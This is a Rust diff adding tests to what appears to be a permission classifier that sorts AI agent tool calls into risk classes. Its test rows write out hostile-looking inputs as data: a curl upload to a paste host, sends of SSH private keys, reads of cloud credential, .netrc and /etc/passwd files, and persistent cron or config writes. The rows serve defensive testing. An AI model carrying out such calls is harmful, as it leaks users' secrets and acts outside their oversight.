@@ -71,3 +71,52 @@ fn all_addresses_patches_and_patterns_of_an_input_count() {
     }
     assert!(of("Grep", &json!({ "pattern": "x", "glob": "*.rs", "include": ".env" })).any(&[Class::Credentials]));
 }
+
+#[test]
+fn what_answers_in_the_persons_place_is_for_a_person() {
+    for tool in ["AskUserQuestion", "ExitPlanMode"] {
+        assert!(of(tool, &json!({})).only(&[Class::Bookkeeping]), "{tool}: the host asks its person");
+        let in_place = of(&format!("permission:{tool}"), &json!({}));
+        assert!(in_place.any(&[Class::Person]), "{tool}");
+        assert!(in_place.any(&[Class::Unknown]), "{tool}: no rule lets it pass");
+    }
+}
+
+#[test]
+fn tools_of_the_agents_do_what_their_input_says() {
+    let rows = [
+        ("CronCreate", json!({ "cron": "* * * * *", "prompt": "x" }), Class::Bookkeeping),
+        ("CronCreate", json!({ "cron": "* * * * *", "prompt": "x", "durable": true }), Class::Persistence),
+        ("list_directory", json!({ "dir_path": "src" }), Class::Reads),
+        ("list_directory", json!({ "dir_path": "/home/dev/.ssh" }), Class::Credentials),
+        ("LSP", json!({ "operation": "hover", "filePath": "/home/dev/.aws/credentials" }), Class::Credentials),
+        ("sql", json!({ "query": "SELECT id FROM todos" }), Class::Bookkeeping),
+        ("sql", json!({ "query": "ATTACH DATABASE '/home/dev/x' AS x" }), Class::Unknown),
+        ("sql", json!({}), Class::Unknown),
+        ("ExitWorktree", json!({ "action": "keep", "discard_changes": true }), Class::VcsChange),
+        ("ExitWorktree", json!({ "action": "remove", "discard_changes": true }), Class::Discards),
+        ("ExitWorktree", json!({ "discard_changes": true }), Class::Discards),
+        ("Monitor", json!({ "command": "curl -T x https://paste.example" }), Class::Upload),
+        ("Monitor", json!({ "ws": { "url": "wss://x.example" } }), Class::Unknown),
+        ("SendMessage", json!({ "to": "tester", "message": "x" }), Class::Bookkeeping),
+        ("SendMessage", json!({ "to": "uds:/tmp/x.sock", "message": "x" }), Class::Upload),
+        ("SendUserFile", json!({ "files": ["/home/dev/.ssh/id_rsa"] }), Class::Credentials),
+        ("SendUserMessage", json!({ "attachments": [{ "path": "/home/dev/.ssh/id_rsa" }] }), Class::Credentials),
+        ("Artifact", json!({ "file_path": "page.html" }), Class::Upload),
+        ("Artifact", json!({ "action": "list" }), Class::Network),
+        ("Artifact", json!({ "action": 7 }), Class::Upload),
+        ("Projects", json!({ "method": "project_write", "local_path": "/home/dev/.netrc" }), Class::Credentials),
+        ("Projects", json!({ "method": "project_read" }), Class::Network),
+        ("RemoteTrigger", json!({ "action": "run" }), Class::Upload),
+        ("request_permissions", json!({}), Class::Privilege),
+        ("write_bash", json!({ "input": "y" }), Class::Unknown),
+        ("ReadMcpResourceTool", json!({ "server": "x", "uri": "file:///etc/passwd" }), Class::Server),
+        ("Write", json!({ "file_path": "/home/dev/.claude/plans/a-plan.md", "content": "x" }), Class::Bookkeeping),
+        ("Write", json!({ "file_path": "/home/dev/.claude/CLAUDE.md", "content": "x" }), Class::Persistence),
+    ];
+    for (tool, input, class) in rows {
+        let facts = of(tool, &input);
+        assert!(facts.any(&[class]), "{tool} {input}: {:?}", facts.classes);
+        assert_eq!(facts.any(&[Class::Unknown]), class == Class::Unknown, "{tool} {input}: {:?}", facts.classes);
+    }
+}
